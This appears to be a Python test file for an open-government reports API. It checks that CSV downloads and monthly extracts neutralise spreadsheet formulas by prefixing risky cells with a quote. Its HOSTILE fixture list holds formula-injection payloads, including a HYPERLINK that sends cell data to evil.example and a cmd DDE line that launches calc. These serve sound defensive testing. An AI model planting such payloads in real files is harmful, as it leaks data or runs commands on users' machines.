"""Free text that a spreadsheet would run as a formula is neutralised in every CSV (issue 14,
point 14): the list's ``f=csv``, the dataset download and the monthly extracts all go through
the shared encoder, which prefixes such cells with ``'`` (OWASP's advice) and leaves numbers
alone."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from sqlalchemy import update

from opengov.collections import Collection, Field
from opengov.encoders.csv import rows
from tests.reports.conftest import api, reports_app  # noqa: F401  (fixtures)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["Ổ gà sâu 20 cm", "-5", "+84905123456", "1e-3", "a=b", "'quoted already"]


def _cells(text: str, column: str) -> list[str]:
    table = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    at = table[0].index(column)
    return [row[at] for row in table[1:]]


def _csv(api, url: str) -> str:  # noqa: F811
    with api.get(url) as response:  # downloads are files: close them
        assert response.status_code == 200, response.get_data(as_text=True)
        assert response.mimetype == "text/csv"
        return response.get_data(as_text=True)


def _expected(value: str) -> str:
    return "'" + value if value in HOSTILE else value


def test_every_reports_csv_neutralises_formulas(reports_app, api):  # noqa: F811
    sent = HOSTILE + HARMLESS
    for text in sent:
        response = api.post("/reports", json={"category": "pothole", "description": text,
                                              "lon": 108.47, "lat": 15.57})
        assert response.status_code == 201, (text, response.get_data(as_text=True))
    want = sorted(_expected(t) for t in sent)

    listing = _csv(api, "/reports?f=csv&limit=100")
    assert sorted(_cells(listing, "description")) == want
    assert set(_cells(listing, "lon")) == {"108.47"}
    for download in ("/datasets/reports/download.csv", "/datasets/reports/download.csv?bom=true"):
        assert sorted(_cells(_csv(api, download), "description")) == want

    store = reports_app.extensions["opengov"].store
    with store.engine.begin() as conn:  # filed last October, so October has an extract
        conn.execute(update(store.table("c_reports")).values(
            requested_at=datetime(2025, 10, 15, 3, tzinfo=UTC)))
    extract = _csv(api, "/datasets/reports/extracts/2025-10.csv")
    assert sorted(_cells(extract, "description")) == want
    # JSON and GeoJSON keep the text exactly as sent.
    features = api.get("/reports?limit=100").get_json()["features"]
    assert sorted(f["properties"]["description"] for f in features) == sorted(sent)


def test_numbers_are_never_prefixed():
    """Negative numbers in numeric columns, and text that is only a number, stay as they are."""
    collection = Collection(
        id="levels", title={"vi": "Mực nước", "en": "Levels"},
        description={"vi": "x", "en": "x"},
        fields=(Field("id", "string", "Mã", "Id"), Field("level", "number", "Mức", "Level"),
                Field("delta", "integer", "Chênh", "Delta"),
                Field("note", "string", "Ghi chú", "Note")),
        id_field="id")
    text = "".join(rows(collection, [("a", -1.5, -3, "-2+3"), ("b", -0.0, 0, "-7.25"),
                                     ("-c", 2e-5, -12, "=1")]))
    table = list(csv.reader(io.StringIO(text)))
    assert table[1:] == [["a", "-1.5", "-3", "'-2+3"], ["b", "-0.0", "0", "-7.25"],
                         ["'-c", "2e-05", "-12", "'=1"]]
